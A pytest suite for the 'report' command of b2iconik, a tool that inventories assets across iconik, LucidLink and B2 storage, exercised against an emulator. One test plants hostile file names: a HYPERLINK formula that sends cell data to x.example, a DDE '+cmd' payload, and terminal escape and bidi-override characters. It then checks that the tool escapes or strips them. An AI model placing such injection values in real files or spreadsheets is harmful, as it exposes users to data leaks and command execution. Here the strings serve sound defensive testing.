"""`python -m b2iconik report` against the emulator: figures from the world, outputs, stale listings."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

import iconik
from b2iconik import __main__ as cli
from b2iconik.report import command as report
from b2iconik.units import human_bytes, parse_age, parse_size, parse_watermarks
from tests.helpers.world import CATEGORY, standard_world


@pytest.fixture
def world(emulator, monkeypatch):
    return standard_world(emulator, monkeypatch)


def expected_bytes(world, category=None):
    return sum(a.size for a in world.assets.values() if category is None or CATEGORY[a.kind] == category)


def run_report(capsys, *argv):
    code = cli.main(["report", "--no-progress", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_client_scrolls_the_storage_listing_across_pages(make_emulator):
    emu = make_emulator(per_page_cap=3)
    ll = emu.add_storage("LucidLink", method="FILE")
    for n in range(8):
        emu.add_file(emu.add_asset(f"a{n}"), "ORIGINAL", ll, f"f{n}.mov", b"x" * n)
    with iconik.IconikClient(emu.app_id, emu.new_token(), emu.url) as client:
        assert sorted(f["name"] for f in client.iter_storage_files(ll)) == [f"f{n}.mov" for n in range(8)]
        assert [f["name"] for f in client.iter_storage_files(ll, name="f3.mov")] == ["f3.mov"]
        with pytest.raises(ValueError, match="not a filter"):
            client.iter_storage_files(ll, owner="me")
    assert emu.request_counts[("GET", "/API/files/v1/storages/<storage_id>/files/")] == 3 + 1


def test_the_report_prints_the_totals_the_world_holds_and_changes_nothing(world, capsys):
    code, out, err = run_report(capsys)

    assert code == 0, err
    total = expected_bytes(world)
    assert f"On LucidLink: {len(world.assets)} asset(s), {human_bytes(total)} ({total} bytes)" in out
    for category, label in (("safe", "safe to remove now"), ("only_on_lucidlink", "only on LucidLink"),
                            ("unverified", "B2 copy does not verify"), ("incomplete", "LucidLink copy incomplete")):
        size = expected_bytes(world, category)
        assert re.search(rf"{re.escape(label)}.*\({size} bytes\)", out), (category, out)
    assert "checksum of 'clip3_corrupt.mov' differs" in out
    assert "B2 copy of 'clip4_short.mov' is" in out
    assert world.writes() == 0
    assert all(world.on_lucidlink(a) for a in world.assets)


def test_the_report_reads_each_asset_once_and_respects_the_rate_limiter(world, capsys, monkeypatch):
    passed = []
    sending = iconik.RateLimiter.sending
    monkeypatch.setattr(iconik.RateLimiter, "sending",
                            lambda self, party=None: passed.append(self.rate) or sending(self, party))

    code, _, err = run_report(capsys, "--fresh")

    assert code == 0, err
    counts = world.emu.request_counts
    assert counts[("GET", "/API/files/v1/assets/<asset_id>/files/")] == len(world.assets)
    assert counts[("GET", "/API/files/v1/assets/<asset_id>/formats/")] == len(world.assets)
    assert len(passed) == sum(counts.values())  # every call waited for the shared limiter
    assert set(passed) == {1000.0}  # ICONIK_MAX_RPS


def test_csv_json_and_html_hold_every_row(world, capsys, tmp_path):
    paths = {kind: tmp_path / f"lucidlink.{kind}" for kind in ("csv", "json", "html")}

    code, out, err = run_report(capsys, "--csv", str(paths["csv"]), "--json", str(paths["json"]),
                                "--html", str(paths["html"]))

    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text())))
    assert {r["asset_id"]: r["category"] for r in rows} == {a.id: CATEGORY[a.kind] for a in world.assets.values()}
    assert {r["asset_id"]: int(r["bytes"]) for r in rows} == {a.id: a.size for a in world.assets.values()}
    ages = {r["asset_id"]: float(r["age_days"]) for r in rows}
    assert all(abs(ages[a.id] - a.days) < 0.1 for a in world.assets.values())
    data = json.loads(paths["json"].read_text())
    assert data["totals"]["bytes"] == expected_bytes(world) and data["totals"]["assets"] == len(world.assets)
    assert data["categories"]["safe"]["bytes"] == expected_bytes(world, "safe")
    assert sum(data["by_age"]["30-90 days"].values()) == sum(a.size for a in world.assets.values()
                                                              if 30 <= a.days < 90)
    assert len(data["rows"]) == len(world.assets)
    page = paths["html"].read_text()
    assert page.count("<svg") == 2 and "<script" not in page.lower()
    assert not re.search(r"(src|href)=", page) and "http" not in page.replace("http://www.w3.org/2000/svg", "")
    assert all(a.title in page for a in world.assets.values())
    assert human_bytes(expected_bytes(world, "safe")) in page
    assert all(f"wrote {p}" in out for p in paths.values())


HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\x1b]0;owned\x07\x1b[2J\r\u202e.mov'


def test_names_are_formula_escaped_in_the_csv_cleaned_on_the_terminal_and_the_files_are_private(world, capsys,
                                                                                              tmp_path):
    world.aged_asset(HOSTILE, "corrupt", 4321, 100)  # kept, with its file name in the reason printed
    world.aged_asset("+cmd|' /C calc'!A0.mov", "safe", 4567, 100)
    paths = {kind: tmp_path / f"lucidlink.{kind}" for kind in ("csv", "json", "html")}
    paths["csv"].write_text("an older report")
    paths["csv"].chmod(0o644)

    code, out, err = run_report(capsys, *(arg for kind, path in paths.items() for arg in (f"--{kind}", str(path))))

    assert code == 0, err
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in paths.values())
    with paths["csv"].open(newline="", encoding="utf-8") as file:
        names = {row["name"] for row in csv.DictReader(file)}
    assert "'" + HOSTILE in names and "'+cmd|' /C calc'!A0.mov" in names
    assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]
    # the reason names the file by its path in the file set, whose doubled slashes are one
    assert 'HYPERLINK("http:/x.example/?"&A1)' in out
    assert not [ch for ch in out if ch not in "\n" and (ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 or ch == "\u202e")]


def test_a_stale_listing_is_corrected_by_each_assets_fresh_read(world, capsys, tmp_path):
    emu = world.emu
    emu.snapshot_listing()
    emu.faults.listing_lag = True
    gone = next(a for a in world.assets.values() if a.kind == "safe")
    emu.world.purge(gone.ll_file_set)  # removed after the index was taken
    late = world.aged_asset("late.mov", "safe", 333, 1)  # added after: the stale listing does not show it

    code, out, err = run_report(capsys, "--fresh", "--json", str(tmp_path / "r.json"))

    assert code == 0, err
    data = json.loads((tmp_path / "r.json").read_text())
    by_asset = {r["asset_id"]: r for r in data["rows"]}
    assert by_asset[gone.id]["category"] == "gone" and by_asset[gone.id]["bytes"] == 0
    assert late.id not in by_asset
    expected = expected_bytes(world) - gone.size - late.size
    assert data["totals"]["bytes"] == expected and data["totals"]["gone_since_listing"] == 1
    assert "listed, but no longer on LucidLink" in out


def test_bad_outputs_and_missing_settings_are_refused_before_anything_is_read(world, capsys, tmp_path, monkeypatch):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    code, _, err = run_report(capsys, "--csv", str(out_dir / "no" / "such" / "dir.csv"), "--json",
                              str(out_dir / "r.json"))
    assert code == 2 and "--csv" in err and "existing directory" in err
    code, _, err = run_report(capsys, "--ll-storage", "not-a-uuid")
    assert code == 2 and "not a UUID" in err
    code, _, err = run_report(capsys, "--ll-storage", world.b2)
    assert code == 2 and "pins" in err
    monkeypatch.delenv("ICONIK_TOKEN")
    code, _, err = run_report(capsys)
    assert code == 2 and "ICONIK_TOKEN" in err
    assert sum(world.emu.request_counts.values()) == 0
    assert not list(out_dir.iterdir())


def test_storages_in_the_wrong_roles_fail_with_exit_1(world, capsys, monkeypatch):
    monkeypatch.delenv("PLUGIN_B2_STORAGE_ID")
    monkeypatch.delenv("PLUGIN_LL_STORAGE_ID")
    code, _, err = run_report(capsys, "--b2-storage", world.ll, "--ll-storage", world.b2)
    assert code == 1 and "not a cloud storage" in err


def test_the_token_never_appears_in_the_output(world, capsys, tmp_path, monkeypatch):
    token = "tok-" + "9" * 30
    world.emu.new_token(token)
    monkeypatch.setenv("ICONIK_TOKEN", token)
    code, out, err = run_report(capsys, "--json", str(tmp_path / "r.json"), "--html", str(tmp_path / "r.html"))
    assert code == 0, err
    assert token not in out + err + (tmp_path / "r.json").read_text() + (tmp_path / "r.html").read_text()


@pytest.mark.parametrize("text, value", [("20TB", 20 * 10**12), ("500GB", 500 * 10**9), ("1.5TiB", int(1.5 * 2**40)),
                                         ("1234B", 1234), ("1 B", 1)])
def test_sizes(text, value):
    assert parse_size(text) == value


@pytest.mark.parametrize("text", ["lots", "-5TB", "0", "20XB", "", "1TB:2TB", "1:2:3"])
def test_bad_sizes_say_what_is_expected(text):
    with pytest.raises(ValueError, match="size|HIGH"):
        parse_watermarks(text)


@pytest.mark.parametrize("text, words", [("20", "say 20TB"), ("0.5", "has no unit"), ("0.5B", "at least one byte"),
                                         ("0", "at least one byte"), ("20:10", "say 20TB")])
def test_a_size_without_a_unit_or_below_one_byte_is_refused_with_the_fix(text, words):
    with pytest.raises(ValueError, match=words):
        parse_watermarks(text)


@pytest.mark.parametrize("count, printed", [(999, "999 B"), (1000, "1.00 KB"), (999_994, "999.99 KB"),
                                            (999_995, "1.00 MB"), (999_999, "1.00 MB"), (999_999_999, "1.00 GB"),
                                            (999_999_999_999, "1.00 TB"), (999_999_999_999_999, "1.00 PB"),
                                            (10**18, "1000.00 PB")])
def test_sizes_print_right_at_every_unit_boundary(count, printed):
    assert human_bytes(count) == printed


def test_watermarks_and_ages():
    assert parse_watermarks("25TB:20TB") == (25 * 10**12, 20 * 10**12)
    assert parse_watermarks("20TB") == (20 * 10**12, 20 * 10**12)
    assert parse_age("30d") == 30 * 86400 and parse_age("12h") == 12 * 3600 and parse_age("2w") == 14 * 86400
    for bad in ("-3d", "0d", "3", "3x", "d"):
        with pytest.raises(ValueError, match="age"):
            parse_age(bad)


def test_report_summary_figures_add_up(world):
    from b2iconik.workflows.inventory import list_lucidlink, read_assets

    with iconik.IconikClient(world.emu.app_id, world.emu.new_token(), world.emu.url) as client:
        views = read_assets(client, list_lucidlink(client, world.ll), world.b2, world.ll)
    summary = report.summary_of(views, world.b2, world.ll)
    assert summary.bytes == sum(f["bytes"] for f in summary.by_category.values())
    assert summary.bytes == sum(sum(c.values()) for c in summary.by_age.values())


def test_a_refused_token_ends_the_report_with_exit_1_and_a_hint(world, capsys, monkeypatch):
    token = world.emu.new_token(max_calls=3)  # the listing and the storages, then 401
    monkeypatch.setenv("ICONIK_TOKEN", token)
    code, out, err = run_report(capsys)
    assert code == 1 and "iconik rejected ICONIK_TOKEN (401)" in err
    assert token not in out + err


def test_one_entry_lists_the_commands_and_refuses_unknown_ones(capsys):
    import subprocess
    import sys

    from tests.helpers.harness import ROOT

    done = subprocess.run([sys.executable, "-m", "b2iconik", "--help"], cwd=ROOT, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0
    for command in ("report", "cleanup", "demo", "emulator", "selftest", "jobs"):
        assert f"\n  {command} " in done.stdout
    assert cli.main(["reprot"]) == 2
    err = capsys.readouterr().err
    assert "unknown command 'reprot'" in err and "report" in err
    assert cli.main([]) == 2
    assert cli.main(["report", "--help"]) == 0 and "--html FILE" in capsys.readouterr().out


def test_a_lucidlink_storage_without_deletes_shows_nothing_safe_to_remove(world, capsys):
    world.emu.world.storages[world.ll]["settings"]["delete"] = False
    code, out, err = run_report(capsys)
    assert code == 0, err
    assert "settings.delete is off" in err and "refuses to delete there" in err
    assert re.search(r"safe to remove now.*\(0 bytes\)", out), out
    safe_and_only_ll = expected_bytes(world, "safe") + expected_bytes(world, "only_on_lucidlink")
    assert re.search(rf"iconik may not delete on this LucidLink storage.*\({safe_and_only_ll} bytes\)", out), out
    assert world.writes() == 0


def test_a_listed_asset_id_that_is_not_a_uuid_is_a_row_that_says_so_not_a_crash(world, capsys):
    odd = next(iter(world.assets.values()))
    with world.emu.world.lock:  # the listing (a search index) names an asset by an id no client would send
        for record in world.emu.world.files.values():
            if record["asset_id"] == odd.id and record["storage_id"] == world.ll:
                record["asset_id"] = "not-a-uuid"
    code, out, err = run_report(capsys, "--fresh")
    assert code == 0, err
    assert "the listing's asset id is not a UUID: 'not-a-uuid'" in out
